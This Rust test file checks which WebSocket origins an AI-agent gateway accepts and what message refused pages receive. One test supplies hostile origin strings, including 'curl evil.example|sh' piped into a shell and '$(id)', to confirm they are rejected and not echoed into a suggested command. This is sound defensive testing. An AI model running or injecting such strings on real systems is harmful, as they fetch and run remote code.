//! Whose pages get a WebSocket, and what the others are told.

use std::net::TcpListener;

use agentcore_gateway::connections::origins::AllowedOrigins;
use agentcore_gateway::local::Gateway;
use http::StatusCode;

use crate::support::socket::{Client, gateway, refusal};

async fn gateway_that_lists(origins: &[&str]) -> Gateway {
    let origins = origins.iter().map(|origin| origin.parse().unwrap()).collect();
    gateway(None, |config| config.origins = AllowedOrigins::on_one_machine(origins)).await
}

#[tokio::test]
async fn pages_of_other_machines_are_kept_out_unless_they_are_allowed() {
    let local = gateway(None, |_| {}).await;
    let open = gateway_that_lists(&["*"]).await;
    let listed = gateway_that_lists(&["https://app.example.com"]).await;
    for (origin, at_local, at_listed) in [
        ("http://localhost:3000", true, false),
        ("http://127.0.0.1:8787", true, false),
        ("file://", true, false),
        ("null", false, false),
        ("https://evil.example", false, false),
        ("http://localhost.evil.example", false, false),
        ("https://app.example.com", false, true),
        ("https://app.example.com:8443", false, false),
    ] {
        for (gateway, allowed) in [(&local, at_local), (&listed, at_listed), (&open, true)] {
            let refused = Client::try_connect(gateway, "/", &[("origin", origin)]).await.err();
            assert_eq!(refused, (!allowed).then_some(StatusCode::FORBIDDEN), "{origin}");
        }
    }
    assert!(Client::try_connect(&listed, "/", &[]).await.is_ok(), "a client without an origin is no browser");
}

#[tokio::test]
async fn a_page_of_the_address_that_it_connects_to_may_connect_by_ip_and_not_by_name() {
    for gateway in [gateway(None, |_| {}).await, gateway_that_lists(&["https://app.example.com"]).await] {
        for (host, origin, allowed) in [
            ("192.0.2.7:8787", "http://192.0.2.7:8787", true),
            ("192.0.2.7", "https://192.0.2.7", true),
            ("[2001:db8::7]:8787", "http://[2001:db8::7]:8787", true),
            ("192.0.2.7:8787", "http://192.0.2.7:8788", false),
            ("192.0.2.7:8787", "http://192.0.2.8:8787", false),
            ("gateway.example:8787", "http://gateway.example:8787", false),
        ] {
            let refused = Client::try_connect(&gateway, "/", &[("host", host), ("origin", origin)]).await.err();
            assert_eq!(refused, (!allowed).then_some(StatusCode::FORBIDDEN), "{origin} at {host}");
        }
    }
}

#[tokio::test]
async fn a_gateway_on_all_addresses_can_be_used_at_each_that_it_names() {
    let has_ipv6 = TcpListener::bind("[::1]:0").is_ok();
    for listen in ["0.0.0.0:0", "[::]:0"].into_iter().take(if has_ipv6 { 2 } else { 1 }) {
        let gateway = gateway(None, |config| config.listen = listen.parse().unwrap()).await;
        assert!(!gateway.addresses().is_empty());
        for address in gateway.addresses() {
            assert!(!address.ip().is_unspecified() && address.port() == gateway.address().port(), "{address}");
            let origin = format!("http://{address}");
            Client::at(*address, "/", &[("origin", &origin)]).await.unwrap();
            assert!(reqwest::get(origin).await.unwrap().status().is_success(), "{address}");
        }
    }
}

#[tokio::test]
async fn a_page_that_is_refused_is_told_the_option_to_copy_if_there_is_one() {
    let gateway = gateway(None, |_| {}).await;
    for origin in ["https://app.example.com:8443", "capacitor://localhost", "http://tauri.localhost", "null"] {
        let (status, reason) = refusal(&gateway, "/", &[("origin", origin)]).await;
        let option = format!("--allow-origin {origin}");
        assert_eq!(status, StatusCode::FORBIDDEN);
        assert!(reason.ends_with(&option), "{reason}");
        let listed = gateway_that_lists(&[origin]).await;
        assert!(Client::try_connect(&listed, "/", &[("origin", origin)]).await.is_ok(), "{origin}");
    }
    for origin in ["*", "https://x;curl evil.example|sh", "https://$(id)", "é", ""] {
        let (status, reason) = refusal(&gateway, "/", &[("origin", origin)]).await;
        assert_eq!((status, reason.as_str()), (StatusCode::FORBIDDEN, "This origin is not allowed."));
    }
}
